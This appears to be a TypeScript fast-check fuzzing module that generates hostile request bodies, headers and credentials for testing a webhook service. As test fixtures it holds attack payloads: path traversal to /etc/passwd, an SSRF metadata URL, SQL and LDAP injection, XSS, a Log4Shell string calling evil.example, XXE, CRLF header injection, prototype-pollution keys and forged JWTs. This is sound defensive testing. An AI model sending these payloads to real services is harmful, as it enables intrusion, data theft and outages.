import fc from 'fast-check';

/** Values that have broken services before, for a place where a text is expected. */
export const awkwardText = fc.oneof(
  fc.constantFrom(
    '',
    '..',
    '../../etc/passwd',
    '%2e%2e%2f',
    '/',
    '//evil.example/x',
    'http://169.254.169.254/latest',
    '\\..\\',
    '\u0000',
    "' or '1'='1",
    '"; drop table job; --',
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '*)(uid=*))(|(uid=*',
    '__proto__',
    'constructor',
    'toString',
    '%s%s%n',
    '\r\nX-Injected: 1',
    '😀',
    '\ud800',
    '9'.repeat(400),
    'a'.repeat(5_000),
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.stringMatching(/^[A-Z]{1,12}-?\d{0,12}$/),
  fc.uuid(),
);

/** Lone surrogates cannot be encoded; they become what they would be on the wire. */
export const encoded = (text: string): string => encodeURIComponent(Buffer.from(text).toString());

const awkwardNumber = fc.constantFrom(0, -1, 1e308, -1e308, 5e-324, 2 ** 53, -(2 ** 63), 1.5);

/** Any value JSON can carry, with names that JavaScript gives a meaning. */
export const awkwardJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { maxDepth: 4 },
    fc.constantFrom(null, true, false, '', [], {}),
    awkwardText,
    awkwardNumber,
    fc.array(tie('value'), { maxLength: 5 }),
    fc.dictionary(
      fc.oneof(fc.constantFrom('__proto__', 'constructor', 'toJSON', 'length', 'id'), fc.string({ maxLength: 8 })),
      tie('value'),
      { maxKeys: 5 },
    ),
  ),
})).value;

const written = (value: unknown): string => JSON.stringify(value) ?? 'null';

/** Bodies that are no JSON, or only just. */
const brokenText = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '{',
    '[1,',
    '{"a":1}{"b":2}',
    'null',
    'NaN',
    '"text"',
    '[]',
    '\ufeff{}',
    '{"webhookEvent":"a","webhookEvent":"b"}',
    `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
    `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    `{"a":${'1'.repeat(100_000)}}`,
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ),
  fc.string({ unit: 'binary', maxLength: 300 }),
);

/** A path into a document, to one of its values. */
function placesOf(value: unknown, path: readonly (string | number)[] = []): (readonly (string | number)[])[] {
  if (typeof value !== 'object' || value === null) return [path];
  return [path, ...Object.entries(value).flatMap(([key, inner]) => placesOf(inner, [...path, key]))];
}

function replaced(value: unknown, [first, ...rest]: readonly (string | number)[], by: unknown): unknown {
  if (first === undefined) return by;
  if (Array.isArray(value))
    return value.map((each: unknown, at) => (String(at) === first ? replaced(each, rest, by) : each));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, inner]) => [key, key === first ? replaced(inner, rest, by) : inner]),
  );
}

/** A real document with one of its values replaced by something it should not be. */
export function spoiled(samples: readonly unknown[]): fc.Arbitrary<Buffer> {
  return fc.tuple(fc.constantFrom(...samples), fc.nat(), awkwardJson).map(([sample, at, by]) => {
    const places = placesOf(sample);
    return Buffer.from(written(replaced(sample, places[at % places.length] ?? [], by)));
  });
}

/** A body: a spoiled document, anything that is JSON, anything that is not, or a lot of it. */
export function hostileBody(samples: readonly unknown[]): fc.Arbitrary<Buffer> {
  return fc.oneof(
    { weight: 8, arbitrary: spoiled(samples) },
    { weight: 4, arbitrary: awkwardJson.map((value) => Buffer.from(written(value))) },
    { weight: 4, arbitrary: brokenText.map((text) => Buffer.from(text)) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)) },
  );
}

/** What a header may carry over the wire at all. */
const headerText = fc.oneof(
  fc.constantFrom(
    '',
    '*',
    'gzip',
    'chunked',
    '100-continue',
    '-1',
    '99999999999',
    'null',
    'sha256=',
    'Bearer',
    'Basic =',
  ),
  fc.string({ maxLength: 60 }).map((text) => text.replaceAll(/[^\x20-\x7e]/g, '').trim()),
  fc.string({ minLength: 1_000, maxLength: 2_000 }).map((text) => text.replaceAll(/[^\x20-\x7e]/g, '')),
);

const contentType = fc.constantFrom(
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'APPLICATION/JSON',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json, text/html',
  'a/b/c',
  '',
);

/** Headers of a request; most say that the body is JSON, so that something is read of it. */
export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc
  .tuple(
    fc.oneof({ weight: 5, arbitrary: fc.constant('application/json') }, { weight: 1, arbitrary: contentType }),
    fc.dictionary(
      fc.constantFrom(
        'x-atlassian-webhook-identifier',
        'x-correlation-id',
        'x-ms-correlation-request-id',
        'x-forwarded-for',
        'x-forwarded-host',
        'x-http-method-override',
        'content-encoding',
        'accept',
        'accept-encoding',
        'if-none-match',
        'range',
        'cookie',
        'origin',
        'user-agent',
      ),
      headerText,
      { maxKeys: 4 },
    ),
  )
  .map(([type, others]) => ({ ...others, 'content-type': type }));

/** What somebody who has no credentials may try in their place. */
export const wrongCredential = fc.oneof(
  fc.constantFrom(
    '',
    'Basic',
    'Bearer',
    'Basic Og==',
    'Bearer null',
    'Bearer eyJhbGciOiJub25lIn0.e30.',
    'Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2Rldi9udWxsIn0.eyJhdWQiOiJhcGk6Ly9jcm1qaXJhLXJlbGF5In0.AAAA',
    'Digest username="x"',
  ),
  fc.base64String({ maxLength: 80 }).map((text) => `Basic ${text}`),
  headerText,
);
